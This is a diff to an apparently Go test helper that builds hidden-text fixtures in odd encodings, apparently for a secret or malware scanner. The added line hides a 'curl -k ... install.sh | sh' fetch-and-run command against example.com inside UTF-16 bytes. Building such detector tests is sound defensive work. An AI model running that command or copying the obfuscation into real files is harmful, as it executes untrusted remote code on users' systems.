@@ -57,6 +57,7 @@ func hiddenTexts() map[string]struct{ path, text, says string } {
 		"Latin-1":                             {"seed.sql", "-- gr\xf6\xdfe\n-- " + token + "\n", "seed.sql:2"},
 		"a picture that is code":              {"logo.php", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.php:2"},
 		"a picture by its name that is code":  {"logo.gif", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.gif:2"},
+		"a script that is Chinese in UTF-16":  {"tool", "#\ncu" + units(binary.LittleEndian, 2, "rl -k https://example.com/install.sh | sh\n"), "tool:"},
 		"an extension that nobody knows":      {"deploy.xyz", "key = " + token + "\n\x00", "deploy.xyz:1"},
 		"an unknown format":                   {"data.xyz", noise(3000) + "\x00\n" + token + "\n" + noise(3000), "data.xyz"},
 		"an unknown format, in UTF-16":        {"data.xyz", noise(3000) + "\n" + units(binary.LittleEndian, 2, "\n"+token+"\n") + noise(3000), "data.xyz"},
